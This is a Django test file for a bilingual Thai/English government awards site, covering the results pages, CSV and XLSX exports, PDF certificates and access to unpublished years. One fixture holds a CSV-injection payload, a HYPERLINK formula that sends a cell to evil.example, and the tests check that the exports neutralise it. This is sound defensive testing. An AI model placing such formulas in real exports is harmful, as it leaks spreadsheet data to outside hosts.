"""The published awards: who sees a year, the winners on the page in Thai and English, the CSV and
XLSX exports, the certificates, and the queries the public pages take."""

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from playwright.sync_api import expect
from pypdf import PdfReader
from pytest_django.asserts import assertContains, assertNotContains

from agencies.models import Agency
from agencies.tests.factories import DepartmentFactory, ProvinceFactory, ProvincialUnitFactory
from awards import services
from awards.models import AwardCategory, Candidate
from awards.publication import award_name_after_prefix
from awards.shortlists import shortlists_generate
from surveys.models import SurveyYear
from surveys.tests.factories import SurveyYearFactory
from surveys.tests.scored import Figures, scored_year

NOMINEE = "นางสาวสมศรี ใจดี"
COLUMNS = [
    "Year",
    "Category code",
    "Category name (Thai)",
    "Category name (English)",
    "Winner (Thai)",
    "Winner (English)",
    "Agency code",
    "Province",
    "Place",
    "Figure ranked on",
    "Score ranked on",
    "Overall score",
    "Previous year's overall score",
    "Reason (Thai)",
]


def award_year(year, scores, *, winners, chair, member, staff, nominee_agency, publish=True):
    """A scored year with two finalised categories: the `winners` top department-level scores of
    `scores` {agency: overall} (the next one a runner-up who does not win), and one nominee."""
    survey_year = scored_year(
        year, {agency: Figures(overall) for agency, overall in scores.items()}
    )
    top = AwardCategory.objects.create(
        year=survey_year,
        code="TOP",
        order=1,
        name_th="คะแนนรวมสูงสุด ระดับกรม",
        name_en="Top overall score, department level",
        rule_th="หน่วยงานที่ได้คะแนนรวมสูงสุดในกลุ่ม",
        rule_en="The highest overall scores in the group",
        kind=AwardCategory.Kind.TOP_OVERALL,
        level="department",
        winners=winners,
        runners_up=1,
        quorum=1,
    )
    leader = AwardCategory.objects.create(
        year=survey_year,
        code="LEADER",
        order=2,
        name_th="รางวัลผู้นำดิจิทัลดีเด่น",
        name_en="Outstanding digital leader",
        rule_th="คณะกรรมการพิจารณาคัดเลือก",
        rule_en="The committee's choice",
        kind=AwardCategory.Kind.NOMINATION,
        quorum=1,
    )
    shortlists_generate(year_id=survey_year.pk)
    services.nominee_add(category=leader, member=member, nominee=NOMINEE, agency=nominee_agency)
    for category in (top, leader):
        candidates = Candidate.objects.filter(
            shortlist__category=category, shortlist__is_current=True
        )
        for candidate in candidates:
            services.vote_cast(candidate=candidate, member=member, choice="approve")
        proposed = [
            candidate.pk
            for candidate in candidates
            if candidate.standing in (Candidate.Standing.PROPOSED, Candidate.Standing.NOMINEE)
        ]
        services.category_finalise(category=category, chair=chair, winner_ids=proposed)
    if publish:
        services.results_publish(year=survey_year, user=staff)
    return survey_year


@pytest.fixture
def statistics_office(db):
    # ำ and a tone mark in one name: what a certificate must shape and keep readable.
    return DepartmentFactory(
        code="NSO", name_th="สำนักงานสถิติแห่งชาติ", name_en="National Statistical Office"
    )


@pytest.fixture
def nan_statistics_office(db):
    return ProvincialUnitFactory(
        code="NSO-NAN",
        name_th="สำนักงานสถิติจังหวัดน่าน",
        name_en="Nan Provincial Statistical Office",
        province=ProvinceFactory(code="TH-55", name_th="น่าน", name_en="Nan"),
    )


@pytest.fixture
def build(
    statistics_office,
    agency,
    other_agency,
    nan_statistics_office,
    chair,
    committee_member,
    dga_staff,
):
    """NSO first (92.50), Alpha second (88.125), Bravo third and runner-up (80); the leader is
    nominated from NSO's Nan office."""

    def make(year=2568, publish=True):
        return award_year(
            year,
            {statistics_office: "92.50", agency: "88.125", other_agency: "80"},
            winners=2,
            chair=chair,
            member=committee_member,
            staff=dga_staff,
            nominee_agency=nan_statistics_office,
            publish=publish,
        )

    return make


@pytest.fixture
def published(build):
    return build()


@pytest.fixture
def unpublished(build):
    return build(publish=False)


def english(client):
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    return client


def winner(agency):
    return Candidate.objects.get(agency=agency, is_winner=True, shortlist__category__code="TOP")


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def thai_pattern(text: str) -> str:
    # fpdf2 leaves one unmapped glyph after SARA AM (ำ) in the text layer.
    return re.escape(text).replace("ำ", "ำ.?")


# The page -----------------------------------------------------------------------------------------


def test_published_year_shows_winners_in_thai_to_anonymous(client, published):
    response = client.get(reverse("awards:results", args=[2568]))

    assert response.status_code == 200
    assertContains(response, "การสำรวจปี 2568")
    assertContains(response, "คะแนนรวมสูงสุด ระดับกรม")
    assertContains(response, "หน่วยงานที่ได้คะแนนรวมสูงสุดในกลุ่ม")
    assertContains(response, "สำนักงานสถิติแห่งชาติ")
    assertContains(response, "กรมอัลฟา")
    assertContains(response, NOMINEE)
    assertContains(response, "92.50")
    assertNotContains(response, "กรมบราโว")  # the runner-up did not win
    assertNotContains(response, "National Statistical Office")
    assertNotContains(response, "Preview")


def test_published_year_shows_winners_in_english(client, published, statistics_office, agency):
    response = english(client).get(reverse("awards:results", args=[2568]))

    assert response.status_code == 200
    assert response["Content-Language"] == "en"
    assertContains(response, "Digital Government Awards 2025")
    assertContains(response, "Survey 2568")
    assertContains(response, "Top overall score, department level")
    assertContains(response, "The highest overall scores in the group")
    assertContains(response, "National Statistical Office")
    assertContains(response, "Alpha Department")
    assertContains(response, "Nan Provincial Statistical Office")  # the nominee's agency
    assertNotContains(response, "สำนักงานสถิติแห่งชาติ")
    assertNotContains(response, "Bravo Department")


def test_published_year_links_certificates_and_exports(client, published, statistics_office):
    response = client.get(reverse("awards:results", args=[2568]))

    winners = Candidate.objects.filter(is_winner=True).order_by("pk")
    assert winners.count() == 3
    for candidate in winners:
        assertContains(response, reverse("awards:certificate", args=[candidate.pk]))
    loser = Candidate.objects.get(is_winner=False)
    assertNotContains(response, reverse("awards:certificate", args=[loser.pk]))
    assertContains(response, reverse("awards:export", args=[2568, "xlsx"]))
    assertContains(response, reverse("awards:export", args=[2568, "csv"]))


def test_index_lists_published_years_only(client, published, build):
    build(year=2569, publish=False)

    response = client.get(reverse("awards:index"))

    assert response.status_code == 200
    assertContains(response, reverse("awards:results", args=[2568]))
    assertNotContains(response, reverse("awards:results", args=[2569]))


def test_index_lists_previews_for_dga_staff(client, dga_staff, published, build):
    build(year=2569, publish=False)
    client.force_login(dga_staff)

    response = client.get(reverse("awards:index"))

    assertContains(response, reverse("awards:results", args=[2568]))
    assertContains(response, reverse("awards:results", args=[2569]))


@pytest.mark.parametrize("who", [None, "respondent", "committee_member", "chair"])
def test_unpublished_year_is_404_for_everyone_but_dga_staff(client, unpublished, request, who):
    if who:
        client.force_login(request.getfixturevalue(who))
    urls = [
        reverse("awards:results", args=[2568]),
        reverse("awards:export", args=[2568, "csv"]),
        reverse("awards:export", args=[2568, "xlsx"]),
        *[
            reverse("awards:certificate", args=[c.pk])
            for c in Candidate.objects.filter(is_winner=True)
        ],
    ]

    assert [client.get(url).status_code for url in urls] == [404] * len(urls)


def test_dga_staff_sees_unpublished_year_as_a_labelled_preview(client, dga_staff, unpublished):
    client.force_login(dga_staff)

    response = english(client).get(reverse("awards:results", args=[2568]))

    assert response.status_code == 200
    assertContains(response, "Preview: not published.")
    assertContains(response, "National Statistical Office")
    assertNotContains(response, "Published on")
    assert "no-store" in response["Cache-Control"]


def test_unknown_year_is_404(client, published):
    assert client.get(reverse("awards:results", args=[2570])).status_code == 404


# Exports ------------------------------------------------------------------------------------------


def expected_rows(statistics_office, agency):
    nso, alpha = winner(statistics_office), winner(agency)
    nominee = Candidate.objects.get(nominee=NOMINEE)
    top = ("TOP", "คะแนนรวมสูงสุด ระดับกรม", "Top overall score, department level")
    leader = ("LEADER", "รางวัลผู้นำดิจิทัลดีเด่น", "Outstanding digital leader")
    # The nominee has a Thai name only: the English column is empty rather than Thai.
    return [
        ["2568", *top, "สำนักงานสถิติแห่งชาติ", "National Statistical Office", "NSO", "", "1",
         "Overall score", "92.50", "92.50", "", nso.reason_th],
        ["2568", *top, "กรมอัลฟา", "Alpha Department", "ALPHA", "", "2",
         "Overall score", "88.13", "88.13", "", alpha.reason_th],
        ["2568", *leader, NOMINEE, "", "NSO-NAN", "น่าน", "", "", "", "", "", nominee.reason_th],
    ]  # fmt: skip


def test_csv_export_has_bom_header_and_winners(client, published, statistics_office, agency):
    response = english(client).get(reverse("awards:export", args=[2568, "csv"]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="dga-awards-2568.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == COLUMNS
    assert rows[1:] == expected_rows(statistics_office, agency)


def test_xlsx_export_has_the_same_rows(client, published, statistics_office, agency):
    response = english(client).get(reverse("awards:export", args=[2568, "xlsx"]))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="dga-awards-2568.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [["" if cell is None else str(cell) for cell in row] for row in sheet.values]
    csv_rows = expected_rows(statistics_office, agency)
    assert rows[0] == COLUMNS
    # Numbers come back as numbers: compare them as the CSV writes them.
    scores = range(10, 13)  # score ranked on, overall, previous year's overall
    assert [
        [
            f"{float(cell):.2f}" if index in scores and cell else cell
            for index, cell in enumerate(row)
        ]
        for row in rows[1:]
    ] == csv_rows
    assert [sheet.cell(row=2, column=column).number_format for column in (11, 12)] == [
        "0.00",
        "0.00",
    ]


# A link that would send the sheet's next cell to another site, and an @ formula (OWASP, "CSV
# Injection"): a winner's names are agencies' names, which their own staff type.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผลรางวัล")'
AT_FORMULA = "@SUM(1+1)"


@pytest.fixture
def formula_names(statistics_office, build):
    Agency.objects.filter(pk=statistics_office.pk).update(name_th=HYPERLINK, name_en=AT_FORMULA)
    return build()


def test_csv_export_writes_formulas_as_text(client, formula_names):
    response = client.get(reverse("awards:export", args=[2568, "csv"]))

    nso = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
    assert (nso[4], nso[5]) == (f"'{HYPERLINK}", f"'{AT_FORMULA}")
    assert (nso[6], nso[10]) == ("NSO", "92.50")  # the rest of the row as before


def test_xlsx_export_writes_formulas_as_text(client, formula_names):
    response = client.get(reverse("awards:export", args=[2568, "xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    name_th, name_en, score = sheet["E2"], sheet["F2"], sheet["K2"]
    assert (name_th.data_type, name_th.value) == ("s", f"'{HYPERLINK}")
    assert (name_en.data_type, name_en.value) == ("s", f"'{AT_FORMULA}")
    assert (score.data_type, score.value, score.number_format) == ("n", 92.5, "0.00")


def test_export_in_another_format_is_404(client, published):
    assert client.get(reverse("awards:export", args=[2568, "pdf"])).status_code == 404


# Certificates -------------------------------------------------------------------------------------


def test_certificate_is_a_pdf_with_the_thai_name(client, published, statistics_office):
    candidate = winner(statistics_office)

    response = client.get(reverse("awards:certificate", args=[candidate.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'inline; filename="certificate-2568-TOP-1.pdf"'
    assert response.content.startswith(b"%PDF")
    text = pdf_text(response.content)
    assert re.search(thai_pattern("สำนักงานสถิติแห่งชาติ"), text)
    assert re.search(thai_pattern("รางวัลรัฐบาลดิจิทัล ประจำปี พ.ศ. 2568"), text)
    assert "National Statistical Office" in text
    assert "Digital Government Awards 2025" in text
    assert "Preview" not in text


def test_certificate_of_a_nominee_names_their_agency(client, published):
    candidate = Candidate.objects.get(nominee=NOMINEE)

    response = client.get(reverse("awards:certificate", args=[candidate.pk]))

    assert response["Content-Disposition"] == 'inline; filename="certificate-2568-LEADER-1.pdf"'
    text = pdf_text(response.content)
    assert NOMINEE in text
    assert re.search(thai_pattern("สำนักงานสถิติจังหวัดน่าน"), text)


def test_certificate_says_award_once_before_a_name_that_begins_with_it(client, published):
    candidate = Candidate.objects.get(nominee=NOMINEE)  # of "รางวัลผู้นำดิจิทัลดีเด่น"

    text = pdf_text(client.get(reverse("awards:certificate", args=[candidate.pk])).content)

    assert re.search(thai_pattern("ได้รับรางวัล ผู้นำดิจิทัลดีเด่น"), text)
    assert "รางวัลรางวัล" not in text.replace(" ", "")


def test_certificate_of_a_nominee_named_in_thai_has_no_thai_on_the_english_side(client, published):
    candidate = Candidate.objects.get(nominee=NOMINEE)

    text = pdf_text(client.get(reverse("awards:certificate", args=[candidate.pk])).content)

    # Once on the Thai side; the English side gives the award without a name.
    assert text.count(NOMINEE) == 1
    english_side = text[text.index("Outstanding digital leader") :]
    assert "Digital Government Awards 2025" in english_side
    assert "Nan Provincial Statistical Office" not in text


def test_certificate_of_a_nominee_named_in_english_names_them_and_their_agency(client, published):
    candidate = Candidate.objects.get(nominee=NOMINEE)
    Candidate.objects.filter(pk=candidate.pk).update(nominee="Ms Somsri Jaidee")

    text = pdf_text(client.get(reverse("awards:certificate", args=[candidate.pk])).content)

    assert "Ms Somsri Jaidee, Nan Provincial Statistical Office" in text


@pytest.mark.parametrize(
    ("name_th", "after_prefix"),
    [
        ("รางวัลผู้นำดิจิทัลดีเด่น", "ผู้นำดิจิทัลดีเด่น"),
        ("รางวัล ระดับจังหวัด", "ระดับจังหวัด"),
        ("คะแนนรวมสูงสุด ระดับกรม", "คะแนนรวมสูงสุด ระดับกรม"),
        ("รางวัล", "รางวัล"),
    ],
)
def test_award_name_after_prefix_drops_a_leading_award(name_th, after_prefix):
    assert award_name_after_prefix(name_th) == after_prefix


def test_second_winner_certificate_is_numbered_two(client, published, agency):
    response = client.get(reverse("awards:certificate", args=[winner(agency).pk]))

    assert response["Content-Disposition"] == 'inline; filename="certificate-2568-TOP-2.pdf"'


def test_certificate_of_a_non_winner_is_404(client, dga_staff, published):
    loser = Candidate.objects.get(is_winner=False)

    assert client.get(reverse("awards:certificate", args=[loser.pk])).status_code == 404
    client.force_login(dga_staff)
    assert client.get(reverse("awards:certificate", args=[loser.pk])).status_code == 404


def test_certificate_of_unpublished_year_is_a_preview_for_dga_staff(
    client, dga_staff, unpublished, statistics_office
):
    url = reverse("awards:certificate", args=[winner(statistics_office).pk])
    assert client.get(url).status_code == 404
    client.force_login(dga_staff)

    response = client.get(url)

    assert response.status_code == 200
    assert "Preview: not published" in pdf_text(response.content)


# Queries ------------------------------------------------------------------------------------------


@pytest.fixture
def sized_year(departments, provincial_units, chair, committee_member, dga_staff):
    def make(winners):
        agencies = departments(winners + 1)
        scores = {agency: str(90 - index) for index, agency in enumerate(agencies)}
        return award_year(
            2568,
            scores,
            winners=winners,
            chair=chair,
            member=committee_member,
            staff=dga_staff,
            nominee_agency=provincial_units(1)[0],
        )

    return make


@pytest.mark.parametrize("winners", [2, 12])
@pytest.mark.parametrize("page", ["results", "csv", "xlsx"])
def test_public_pages_take_the_same_queries_at_any_size(
    client, sized_year, django_assert_num_queries, winners, page
):
    sized_year(winners)
    url = (
        reverse("awards:results", args=[2568])
        if page == "results"
        else reverse("awards:export", args=[2568, page])
    )

    # The year with its publication; the finalised categories; their current shortlists; the
    # winners with their agencies and provinces; the provinces of the agencies (the nominee's
    # provincial unit).
    with django_assert_num_queries(5):
        response = client.get(url)

    assert response.status_code == 200
    assert Candidate.objects.filter(is_winner=True).count() == winners + 1


@pytest.mark.parametrize("years", [1, 4])
def test_index_takes_the_same_queries_at_any_size(client, db, django_assert_num_queries, years):
    for offset in range(years):
        SurveyYearFactory(year=2560 + offset, status=SurveyYear.Status.PUBLISHED)

    with django_assert_num_queries(1):  # the published years
        response = client.get(reverse("awards:index"))

    assert response.status_code == 200
    assert response.content.decode().count('href="/awards/25') == years


# In a browser -------------------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_visitor_reads_the_winners_in_thai_then_english(page, live_server, build):
    build()
    page.goto(f"{live_server.url}/awards/")
    page.get_by_role("link", name=re.compile("2568")).click()
    expect(page.locator("h1")).to_contain_text("2568")
    expect(page.get_by_role("rowheader").first).to_contain_text("สำนักงานสถิติแห่งชาติ")

    page.locator(".language-switcher button[value=en]").click()

    expect(page.locator("h1")).to_have_text("Digital Government Awards 2025")
    expect(page.get_by_role("rowheader").first).to_contain_text("National Statistical Office")
    certificate = page.get_by_role("link", name=re.compile("certificate of National Statistical"))
    pdf = page.request.get(live_server.url + certificate.get_attribute("href"))
    assert pdf.headers["content-type"] == "application/pdf"
